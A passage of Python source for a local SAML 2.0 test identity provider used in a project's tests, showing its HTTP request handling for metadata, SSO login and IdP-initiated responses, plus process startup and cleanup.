    def send(self, status, body, content_type="text/plain; charset=utf-8"):
        if isinstance(body, str):
            body = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def handle_safely(self, work):
        try:
            work()
        except Refused as e:
            self.send(400, str(e) + "\n")
        except Exception as e:  # a bug here: say it, keep serving
            import traceback

            traceback.print_exc()
            self.send(500, f"{type(e).__name__}: {e}\n")

    def do_GET(self):
        self.handle_safely(self.get)

    def do_POST(self):
        self.handle_safely(self.post)

    def get(self):
        url = urllib.parse.urlsplit(self.path)
        query = dict(urllib.parse.parse_qsl(url.query, keep_blank_values=True))
        if url.path == "/metadata":
            self.send(200, self.idp.metadata_xml, "application/samlmetadata+xml")
        elif url.path == "/certificate":
            self.send(200, self.idp.cert_pem, "text/plain; charset=utf-8")
        elif url.path == "/sso/redirect":
            if not query.get("SAMLRequest"):
                raise Refused("SAMLRequest is required")
            key = self.idp.receive_request(query["SAMLRequest"], query.get("RelayState"))
            sp = self.idp.requests[key]["sp"]
            self.send(200, LOGIN_PAGE.format(key=html.escape(key), sp=html.escape(sp)), "text/html; charset=utf-8")
        else:
            self.send(404, "not found\n")

    def post(self):
        url = urllib.parse.urlsplit(self.path)
        length = int(self.headers.get("Content-Length") or 0)
        form = dict(urllib.parse.parse_qsl(self.rfile.read(length).decode("utf-8"), keep_blank_values=True))
        if url.path == "/login":
            if not form.get("key"):
                raise Refused("key is required")
            answer = self.idp.respond(form, key=form["key"])
        elif url.path == "/idp-initiated":
            answer = self.idp.respond(form)
        else:
            return self.send(404, "not found\n")
        if "application/json" in (self.headers.get("Accept") or ""):
            return self.send(200, json.dumps(answer), "application/json")
        relay = ""
        if answer["RelayState"] is not None:
            relay = '<input type="hidden" name="RelayState" value="%s">\n' % html.escape(answer["RelayState"])
        page = POST_PAGE.format(acs=html.escape(answer["acs"]), response=answer["SAMLResponse"], relay=relay)
        self.send(200, page, "text/html; charset=utf-8")


def main():
    parser = argparse.ArgumentParser(description="A SAML 2.0 test IdP (pysaml2) for Admit's tests.")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--base-url", help="default: http://127.0.0.1:PORT")
    parser.add_argument(
        "--work-dir",
        help="where the keys go (the caller removes it); default: a temporary directory removed at exit",
    )
    args = parser.parse_args()
    base = args.base_url or f"http://127.0.0.1:{args.port}"

    # A caller that may have to kill this process (SIGKILL skips `stop`) owns the directory.
    workdir = args.work_dir or tempfile.mkdtemp(prefix="saml-idp-")
    done = threading.Event()

    def stop(*_):
        if not args.work_dir:
            shutil.rmtree(workdir, ignore_errors=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    parent = os.getppid()

    def watch_parent():
        while not done.wait(1):
            if os.getppid() != parent:
                stop()

    threading.Thread(target=watch_parent, daemon=True).start()

    try:
        Handler.idp = IdP(base, workdir)
        httpd = ThreadingHTTPServer(("127.0.0.1", args.port), Handler)
        httpd.daemon_threads = True
        httpd.serve_forever()
    finally:
        stop()


if __name__ == "__main__":
    main()
